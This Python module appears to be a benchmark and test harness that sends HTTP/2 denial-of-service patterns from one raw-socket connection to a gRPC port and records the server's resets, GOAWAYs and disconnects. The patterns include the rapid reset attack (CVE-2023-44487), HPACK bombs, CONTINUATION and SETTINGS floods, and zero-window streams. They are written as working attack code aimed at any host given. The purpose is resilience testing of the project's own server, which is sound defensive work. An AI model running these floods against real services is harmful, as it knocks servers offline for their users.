"""The HTTP/2 abuse patterns, as a client on a raw socket: what bench_h2_abuse.py (and the e2e
tests) send to a gRPC port for a few seconds from one connection, and what came back.

    python -m benchmarks.h2_abuse PATTERN HOST PORT TARGET SECONDS    # one attack; a JSON line out

TARGET names the port's methods (model, ads, epp: TARGETS). The attacker runs in a process
of its own so that its Python does not share a GIL with the legitimate client it is measured
beside. It reads everything the server sends (SETTINGS acknowledged, nothing else answered)
and reports the first GOAWAY or RST_STREAM that is not NO_ERROR, or grpc-status that is not
OK, and when, and when the server closed the connection. An attack from one connection ends when the server closes it.
"""
from __future__ import annotations

import json
import socket
import struct
import sys
import threading
import time

from mcp26.serving.h2.frames import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, ERROR_NAMES, GOAWAY,
                                     HEADERS, NO_ERROR, PING, PREFACE, RST_STREAM, SETTINGS, U32, WINDOW_UPDATE,
                                     frame, settings, split)
from mcp26.serving.h2.hpack_encoder import literal

# Each port's methods: a unary one, a streaming one and a request message for it.
TARGETS = {
    "model": {"unary": "/grpc.health.v1.Health/Check",
              "bidi": "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"},
    "ads": {"unary": "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources",
            "bidi": "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"},
    "epp": {"unary": "/grpc.health.v1.Health/Check",
            "bidi": "/envoy.service.ext_proc.v3.ExternalProcessor/Process"},
}


def bidi_message(target: str) -> bytes:
    """One request of the target's streaming method (each answered by the server)."""
    if target == "model":
        from grpc_reflection.v1alpha import reflection_pb2
        return reflection_pb2.ServerReflectionRequest(list_services="").SerializeToString()
    if target == "ads":
        from envoy.config.core.v3 import base_pb2
        from envoy.service.discovery.v3 import discovery_pb2
        return discovery_pb2.DiscoveryRequest(
            node=base_pb2.Node(id="sidecar~127.0.0.9~attacker.default~default.svc.cluster.local", cluster="attacker"),
            type_url="type.googleapis.com/envoy.config.cluster.v3.Cluster").SerializeToString()
    from envoy.config.core.v3 import base_pb2
    from envoy.service.ext_proc.v3 import external_processor_pb2 as ep
    return ep.ProcessingRequest(request_headers=ep.HttpHeaders(headers=base_pb2.HeaderMap(headers=[
        base_pb2.HeaderValue(key=":path", raw_value=b"/v1/completions"),
        base_pb2.HeaderValue(key=":authority", raw_value=b"x")]))).SerializeToString()


def grpc_message(data: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(data)) + data


def request_block(path: str) -> bytes:
    return (b"\x83\x86" + literal(b":path", path.encode()) + literal(b":authority", b"abuse")
            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def get_block() -> bytes:
    return b"\x82\x86\x84" + literal(b":authority", b"abuse")      # GET, http, /


class Wire:
    """One client connection: sends what it is given, reads (and records) what comes back."""

    def __init__(self, host: str, port: int, ours: bytes = b""):
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.t0 = time.monotonic()
        self.first_error: tuple[str, str, float] | None = None    # (frame, code, seconds after start)
        self.closed_at: float | None = None
        self.resets = 0
        self.ended = 0                      # frames with END_STREAM the server sent (answers ended)
        self.send_window = 65535            # the connection's, as the server's WINDOW_UPDATEs open it
        self.settings = threading.Event()   # the server's SETTINGS came
        self.lock = threading.Lock()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, ours))
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        from hpack import Decoder
        decoder = Decoder(max_header_list_size=1 << 24)
        block = b""
        buf = b""
        while True:
            try:
                data = self.sock.recv(1 << 18)
            except OSError:
                data = b""
            if not data:
                self.closed_at = time.monotonic() - self.t0
                return
            buf += data
            frames, used = split(buf, 1 << 24)
            buf = buf[used:]
            for kind, flags, sid, payload in frames:
                if kind in (DATA, HEADERS) and flags & END_STREAM:
                    self.ended += 1
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                    self.settings.set()
                elif kind == WINDOW_UPDATE and not sid:
                    self.send_window += U32.unpack(payload)[0] & 0x7FFFFFFF
                elif kind in (HEADERS, CONTINUATION):
                    block += payload if kind == CONTINUATION else _fragment(flags, payload)
                    if flags & END_HEADERS:
                        status = dict(decoder.decode(block)).get("grpc-status", "0")
                        block = b""
                        if status != "0" and self.first_error is None:
                            self.first_error = ("grpc-status", status, time.monotonic() - self.t0)
                elif kind in (GOAWAY, RST_STREAM):
                    code = U32.unpack_from(payload, 4 if kind == GOAWAY else 0)[0]
                    self.resets += kind == RST_STREAM
                    if code != NO_ERROR and self.first_error is None:
                        name = ERROR_NAMES[code] if code < len(ERROR_NAMES) else str(code)
                        self.first_error = ("GOAWAY" if kind == GOAWAY else "RST_STREAM", name,
                                            time.monotonic() - self.t0)

    def send(self, data: bytes) -> bool:
        with self.lock:
            try:
                self.sock.sendall(data)
                return True
            except OSError:
                return False

    def close(self) -> None:
        """FIN now: close() alone waits for the reader thread's recv() to return first."""
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()


def _fragment(flags: int, payload: bytes) -> bytes:
    from mcp26.serving.h2.frames import header_fragment
    return header_fragment(flags, payload)[0]


def _headers(sid: int, block: bytes, end_stream: bool = False, end_headers: bool = True) -> bytes:
    return frame(HEADERS, (END_HEADERS if end_headers else 0) | (END_STREAM if end_stream else 0), sid, block)


# -- the patterns: each a generator of byte chunks for one connection (stream ids its own) ---------

def rapid_reset(target: str):
    """CVE-2023-44487: open a stream, reset it, at once, over and over."""
    block = request_block(TARGETS[target]["unary"])
    sid = 1
    while True:
        chunk = []
        for _ in range(200):
            chunk.append(_headers(sid, block) + frame(RST_STREAM, 0, sid, U32.pack(CANCEL)))
            sid += 2
        yield b"".join(chunk)


def ping_flood(target: str):
    while True:
        yield frame(PING, 0, 0, b"pingping") * 2000


def ping_get(target: str, wire: "Wire"):
    """PING, PING, `GET /`, repeat, each round once the last GET is answered (so that its answer
    comes before the next PINGs): the refusal a GET provokes must not clear the PING strikes."""
    sid = 1
    while True:
        answered = wire.ended
        yield frame(PING, 0, 0, b"pingping") * 2 + _headers(sid, get_block(), end_stream=True)
        sid += 2
        deadline = time.monotonic() + 0.1
        while wire.ended == answered and time.monotonic() < deadline and wire.closed_at is None:
            time.sleep(0.0005)


def hpack_bomb(target: str):
    """A 4 KB table entry, then ~56,000 one-byte references to it, per block (60 KB in
    HEADERS + CONTINUATION), a new stream each."""
    add = b"\x40" + bytes([10]) + b"x-big-name" + b"\x7f\xa1\x1e" + b"v" * 4000      # 127 + 3,873
    body = request_block(TARGETS[target]["unary"]) + add + b"\xbe" * 56000
    parts = [body[i:i + 16384] for i in range(0, len(body), 16384)]
    sid = 1
    while True:
        out = [frame(HEADERS, END_STREAM, sid, parts[0])]
        out += [frame(CONTINUATION, END_HEADERS if i == len(parts) - 1 else 0, sid, p)
                for i, p in enumerate(parts) if i]
        sid += 2
        yield b"".join(out)


def continuation_flood(target: str):
    """A header block never finished: empty CONTINUATION frames, without end."""
    yield frame(HEADERS, 0, 1, request_block(TARGETS[target]["unary"]))
    while True:
        yield frame(CONTINUATION, 0, 1) * 5000


def settings_flood(target: str):
    """1,000 open streams, then SETTINGS frames of 2,730 window changes each."""
    block = request_block(TARGETS[target]["bidi"])
    yield b"".join(_headers(1 + 2 * i, block) for i in range(1000))
    k = 0
    while True:
        k += 1
        yield frame(SETTINGS, 0, 0, settings(*[(4, 60000 + (k + j) % 2) for j in range(2730)])) * 4


def window_update_flood(target: str):
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, U32.pack(1)) * 5000


def zero_window_stream(target: str):
    """A window of 0 for every stream, one streaming call, and its requests without end: each
    is answered, and nothing of the answers may leave."""
    message = grpc_message(bidi_message(target))
    yield _headers(1, request_block(TARGETS[target]["bidi"]))
    while True:
        yield frame(DATA, 0, 1, message * max(1, 16000 // len(message)))


def half_sent_messages(target: str):
    """16 streams, each the first half of a 24 MB message, windows ignored."""
    block = request_block(TARGETS[target]["unary"])
    yield b"".join(_headers(1 + 2 * i, block) for i in range(16))
    first = b"\x00" + U32.pack(24 << 20) + b"x" * (16384 - 5)
    rest = b"x" * 16384
    for n in range((12 << 20) // 16384):
        yield b"".join(frame(DATA, 0, 1 + 2 * i, first if n == 0 else rest) for i in range(16))


PATTERNS = {f.__name__: f for f in (rapid_reset, ping_flood, ping_get, hpack_bomb, continuation_flood,
                                    settings_flood, window_update_flood, zero_window_stream, half_sent_messages)}
# The ones whose size is a message's: their RSS floor is 64 MB, not 20.
MESSAGE_SIZE = {"half_sent_messages", "churn_with_open_calls"}
SETTINGS_FOR = {"zero_window_stream": settings((4, 0))}


def attack(pattern: str, host: str, port: int, target: str, seconds: float) -> dict:
    """One pattern from one connection for `seconds` (less if the server closes it)."""
    if pattern == "churn_with_open_calls":
        return churn_with_open_calls(host, port, target, seconds)
    w = Wire(host, port, SETTINGS_FOR.get(pattern, b""))
    deadline = w.t0 + seconds
    sent = 0
    chunks = PATTERNS[pattern](target, w) if pattern == "ping_get" else PATTERNS[pattern](target)
    for chunk in chunks:
        if time.monotonic() >= deadline or w.closed_at is not None or not w.send(chunk):
            break
        sent += len(chunk)
    while time.monotonic() < deadline:          # the row lasts `seconds` whenever the server hangs up
        time.sleep(0.05)
    w.close()
    return {"pattern": pattern, "sent_mb": round(sent / 1e6, 1), "first_error": w.first_error,
            "closed_after_s": w.closed_at, "resets": w.resets}


def churn_with_open_calls(host: str, port: int, target: str, seconds: float) -> dict:
    """Connections, one every half second, each opening up to 200 calls with 16 KB of a message
    sent (within the server's windows), then closing: what a closed connection's calls held must
    go (it stayed until the cyclic collector ran: 212 MB)."""
    block = request_block(TARGETS[target]["unary"])
    part = b"\x00" + U32.pack(1 << 20) + b"x" * (16000 - 5)
    deadline = time.monotonic() + seconds
    conns = sent = 0
    while time.monotonic() < deadline:
        try:
            w = Wire(host, port)
        except OSError:
            time.sleep(0.05)
            continue
        w.settings.wait(1.0)
        time.sleep(0.05)                        # its connection WINDOW_UPDATE, if it sends one
        calls = max(1, min(200, w.send_window // len(part)))
        chunk = b"".join(_headers(1 + 2 * i, block) + b"".join(frame(DATA, 0, 1 + 2 * i, part[j:j + 16384])
                                                               for j in range(0, len(part), 16384))
                         for i in range(calls))
        if w.send(chunk):
            sent += len(chunk)
        time.sleep(0.1)
        w.close()
        conns += 1
        time.sleep(0.4)
    return {"pattern": "churn_with_open_calls", "sent_mb": round(sent / 1e6, 1), "connections": conns,
            "first_error": None, "closed_after_s": None, "resets": 0}


def sequential_connects(host: str, port: int, count: int = 3000) -> float:
    """Seconds for `count` connections opened and closed one after another (the listen backlog)."""
    t0 = time.monotonic()
    for _ in range(count):
        s = socket.create_connection((host, port), timeout=10)
        s.close()
    return time.monotonic() - t0


def main(argv: list[str]) -> int:
    pattern, host, port, target, seconds = argv
    print(json.dumps(attack(pattern, host, int(port), target, float(seconds))), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
